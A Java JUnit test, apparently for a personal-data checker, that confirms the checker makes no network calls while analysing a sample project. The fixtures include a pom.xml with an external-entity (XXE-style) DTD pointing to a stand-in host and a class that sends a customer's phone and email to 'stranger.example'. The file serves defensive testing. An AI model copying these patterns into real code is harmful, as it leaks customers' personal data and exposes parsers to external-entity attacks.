package io.github.personaldata.checker.run;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.channels.AsynchronousSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.jar.Attributes;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A check does not even try to use the network. It runs in a JVM whose sockets and name look-ups tell of each attempt ({@link NetworkAgent}),
 * on a program with all that names other hosts.
 */
final class NetworkTest {
    private static final String POM =
            """
            <!DOCTYPE project SYSTEM "http://dtd.stranger.example/pom.dtd" [<!ENTITY % more SYSTEM "http://entity.stranger.example/"> %more;]>
            <project xmlns="http://pom.stranger.example/POM/4.0.0">
            </project>
            """;

    private static final String CLIENT =
            """
            package p;
            import java.net.URI;
            import java.net.http.*;
            class Orders {
                void pay(Customer c) throws Exception {
                    System.out.println(c.email);
                    HttpRequest request = HttpRequest.newBuilder(URI.create("https://stranger.example/" + c.getPhone())).build();
                    HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
                    new java.net.URL("http://127.0.0.1:9/" + c.email).openStream().close();
                }
            }
            """;

    @TempDir
    private Path folder;

    @Test
    void aCheckDoesNotTry() throws IOException, InterruptedException {
        Path output = folder.resolve("output.txt");
        int code = new ProcessBuilder(
                        ProcessHandle.current().info().command().orElse("java"),
                        "-javaagent:" + agent(),
                        "-XX:TieredStopAtLevel=1",
                        "-classpath",
                        System.getProperty("surefire.test.class.path", System.getProperty("java.class.path")),
                        NetworkTest.class.getName(),
                        folder.resolve("project").toString())
                .redirectErrorStream(true)
                .redirectOutput(output.toFile())
                .start()
                .waitFor();
        List<String> lines = Files.readAllLines(output);
        assertThat(code).as("%s", lines).isZero();
        assertThat(lines).contains("cold []", "warm []");
        assertThat(lines).anyMatch(line -> line.startsWith("found ") && line.contains("stranger.example"));
        // or the agent would be blind, and the silence before worth nothing
        for (String way : ways().keySet()) {
            assertThat(lines).anyMatch(line -> line.startsWith(way + " [") && !line.equals(way + " []"));
        }
    }

    private String agent() throws IOException {
        Manifest manifest = new Manifest();
        manifest.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
        manifest.getMainAttributes().putValue("Premain-Class", NetworkAgent.class.getName());
        manifest.getMainAttributes().putValue("Can-Retransform-Classes", "true");
        Path jar = folder.resolve("agent.jar");
        try (OutputStream out = Files.newOutputStream(jar);
                JarOutputStream written = new JarOutputStream(out, manifest)) {
            written.finish();
        }
        return jar.toString();
    }

    /** The watched JVM. In: the folder of the project; out, printed: what was attempted by two checks, and by each way there is. */
    public static void main(String[] arguments) throws Exception {
        Path root = Path.of(arguments[0]);
        Project project = new Project(Files.createDirectories(root))
                .source("p/Customer.java", FlowProgram.CUSTOMER)
                .source("p/Orders.java", CLIENT)
                .resource("application.yml", "crm: {url: \"https://settings.stranger.example/\"}\n")
                .bytes("pom.xml", POM.getBytes(StandardCharsets.UTF_8))
                .change("--- /dev/null\n+++ b/pom.xml\n@@ -0,0 +1,3 @@\n+"
                        + POM.strip().replace("\n", "\n+") + "\n")
                .policy(FlowProgram.POLICY)
                .alone();
        NetworkAgent.taken();
        Cache cache = Cache.in(root.resolve("cache"));
        ModuleResult result = project.checked(cache);
        System.out.println("cold " + NetworkAgent.taken());
        project.checked(cache);
        System.out.println("warm " + NetworkAgent.taken());
        result.blocks()
                .forEach(block -> System.out.println("found " + block.text().replace("\n", " ")));
        for (Map.Entry<String, Callable<?>> way : ways().entrySet()) {
            try {
                way.getValue().call();
            } catch (IOException e) {
                System.out.println("refused: " + e);
            }
            System.out.println(way.getKey() + " " + NetworkAgent.taken());
        }
        System.exit(0);
    }

    /** All to this machine, where nobody answers. */
    private static Map<String, Callable<?>> ways() {
        URI nobody = URI.create("http://127.0.0.1:1/");
        Map<String, Callable<?>> ways = new LinkedHashMap<>();
        ways.put("name", () -> InetAddress.getByName("localhost"));
        ways.put("own name", InetAddress::getLocalHost);
        ways.put("socket", () -> new Socket("127.0.0.1", 1));
        ways.put("server", () -> new ServerSocket(0));
        ways.put("datagram", DatagramSocket::new);
        ways.put("channel", () -> SocketChannel.open(new InetSocketAddress("127.0.0.1", 1)));
        ways.put("asynchronous", AsynchronousSocketChannel::open);
        ways.put("url", () -> nobody.toURL().openStream());
        ways.put("client", () -> HttpClient.newHttpClient()
                .send(HttpRequest.newBuilder(nobody).build(), BodyHandlers.ofString()));
        return ways;
    }
}
